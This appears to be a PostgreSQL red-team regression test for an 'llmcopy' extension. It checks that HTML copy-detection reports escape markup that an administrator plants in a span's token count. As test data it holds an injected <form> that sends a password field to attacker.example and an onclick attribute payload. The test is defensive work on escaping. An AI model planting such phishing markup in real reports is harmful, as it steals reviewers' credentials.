-- Red team: markup in a report through a span's token count.
--
-- The expected output shows the safe behaviour.  The
-- passages table of llmcopy_report_html prints s ->> 'tokens' of each
-- stored span as it is: the offsets are cast to int (a non-number fails),
-- the excerpt is escaped, the token count is neither.  An administrator may
-- update the findings of the tables it may read (the row-level security
-- lets it), so it plants a <form> that posts wherever it likes, or any
-- other markup, in the report a reviewer opens from llmcopy_scan_report();
-- the Content-Security-Policy stops scripts, not forms, links or styles.
-- Anyone calling llmcopy_report_html with such spans gets the same.
-- Fix: print (s ->> 'tokens')::int, like the offsets, or escape it.
SET client_min_messages = warning;
DROP ROLE IF EXISTS regress_redteam_xadmin, regress_redteam_xeve;
RESET client_min_messages;
CREATE ROLE regress_redteam_xadmin;
CREATE ROLE regress_redteam_xeve IN ROLE regress_redteam_xadmin;
SELECT llmcopy_grant('regress_redteam_xadmin', 'admin');
CREATE TABLE rt_x_works (id int PRIMARY KEY, body text);
INSERT INTO rt_x_works VALUES (1, 'the quick brown fox jumps over the lazy dog again and again, all day long');
SELECT llmcopy_register_corpus('rt_x_works', 'id', 'body') AS rt_x_corpus \gset
GRANT SELECT ON rt_x_works TO regress_redteam_xeve;
CREATE SCHEMA rt_x AUTHORIZATION regress_redteam_xeve;
SET ROLE regress_redteam_xeve;
CREATE TABLE rt_x.outputs (id int PRIMARY KEY, body text, at timestamptz);
INSERT INTO rt_x.outputs VALUES (1, 'a copy: the quick brown fox jumps over the lazy dog again and again, all day long', now());
SELECT llmcopy_register_outputs('rt_x.outputs', 'id', 'body', 'at') AS rt_x_outputs \gset
GRANT SELECT ON rt_x.outputs TO PUBLIC;
RESET ROLE;
SELECT clock_timestamp() AS since \gset
SET client_min_messages = warning;
CALL llmcopy_scan(outputs => 'rt_x.outputs', corpus => 'rt_x_works', threshold => 0.1);
RESET client_min_messages;

-- The administrator edits the spans of her own output's finding.
SET ROLE regress_redteam_xeve;
UPDATE llmcopy_findings
SET spans = jsonb_set(spans, '{0,tokens}', to_jsonb('<form action="https://attacker.example/"><input name="password"><button>Sign in again</button></form>'::text))
WHERE output_table = :rt_x_outputs;
RESET ROLE;

-- The reviewer's reports: is the markup in the document?  (A report that
-- refuses the bad span is as safe as one that escapes it.)
CREATE FUNCTION pg_temp.injected(doc_sql text, markup text) RETURNS bool LANGUAGE plpgsql AS $$
DECLARE
    doc text;
BEGIN
    EXECUTE doc_sql INTO doc;
    RETURN strpos(doc, markup) > 0;
EXCEPTION WHEN OTHERS THEN
    RETURN false;
END $$;
SELECT pg_temp.injected(format('SELECT llmcopy_scan_report(since => %L)', :'since'), 'quick brown fox') AS scan_report_shows_the_text,
       pg_temp.injected(format('SELECT llmcopy_scan_report(since => %L)', :'since'), '<form') AS in_scan_report,
       pg_temp.injected($$SELECT llmcopy_report('rt_x.outputs', '1')$$, '<form') AS in_report;
SELECT pg_temp.injected($q$SELECT llmcopy_report_html('r', '[{"table": "t", "id": "1", "text": "abc", "findings": [{"corpus": "c", "work_id": "w", "text": "abc",
           "spans": [{"a_start": 1, "a_length": 3, "b_start": 1, "b_length": 3, "tokens": "<b onclick=x>1</b>", "excerpt": "abc"}]}]}]')$q$, '<b ')
       AS in_report_html;
-- The reports were made, with the markup shown as text.
SELECT pg_temp.injected(format('SELECT llmcopy_scan_report(since => %L)', :'since'), '&lt;form action=') AS escaped_in_scan_report,
       pg_temp.injected($$SELECT llmcopy_report('rt_x.outputs', '1')$$, '&lt;form action=') AS escaped_in_report,
       pg_temp.injected($q$SELECT llmcopy_report_html('r', '[{"table": "t", "id": "1", "text": "abc", "findings": [{"corpus": "c", "work_id": "w", "text": "abc",
           "spans": [{"a_start": 1, "a_length": 3, "b_start": 1, "b_length": 3, "tokens": "<b onclick=x>1</b>", "excerpt": "abc"}]}]}]')$q$,
           '<td class="num">&lt;b onclick=x&gt;1&lt;/b&gt;</td>') AS escaped_in_report_html;
-- Values of the wrong kind do not stop a report: spans whose offsets are
-- not positive integers are left out and counted, the others are marked
-- (a stray key of a span is not passed on); a figure that is not a number
-- is printed escaped; an obligation that is not true is not required.
SELECT position('2 of the passages no longer match the texts' IN d) > 0 AS bad_spans_left_out,
       (SELECT count(*) FROM regexp_matches(d, 'data-f=''o1f1'' data-side=''a''', 'g')) AS good_span_marks,
       position('containment &lt;i&gt; &middot;' IN d) > 0 AS containment_escaped,
       position('no attribution required' IN d) > 0 AS not_required
FROM llmcopy_report_html('r', '[{"table": "t", "id": "1", "text": "abc def", "findings": [{"corpus": "c", "work_id": "w",
         "text": "abc def", "containment": "<i>", "obligations": {"copyleft": "none", "attribution": "maybe"},
         "spans": [{"a_start": "x", "a_length": 3, "b_start": 1, "b_length": 3}, {"a_start": 0, "a_length": 3, "b_start": 1, "b_length": 3},
                   {"a_start": 5, "a_length": 3, "b_start": 5, "b_length": 3, "tokens": 1, "work": "junk"}]}]}]') d;

-- clean up
DELETE FROM llmcopy_runs WHERE corpus_table = :rt_x_corpus;
SELECT llmcopy_unregister('rt_x.outputs');
SELECT llmcopy_unregister('rt_x_works');
DROP TABLE rt_x.outputs, rt_x_works;
DROP SCHEMA rt_x;
SELECT llmcopy_revoke('regress_redteam_xadmin');
DROP ROLE regress_redteam_xeve, regress_redteam_xadmin;
